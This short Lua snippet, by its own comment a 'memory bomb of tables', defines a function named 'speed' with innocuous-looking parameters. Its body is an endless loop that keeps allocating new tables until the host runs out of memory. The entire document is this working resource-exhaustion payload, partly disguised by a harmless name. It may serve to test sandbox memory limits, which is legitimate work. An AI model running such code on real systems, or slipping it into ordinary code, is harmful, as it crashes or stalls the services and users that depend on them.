-- A memory bomb of tables.
function speed(mover, land_ft)
  local hoard = {}
  while true do hoard[#hoard + 1] = { 1, 2, 3, 4, 5, 6, 7, 8 } end
end
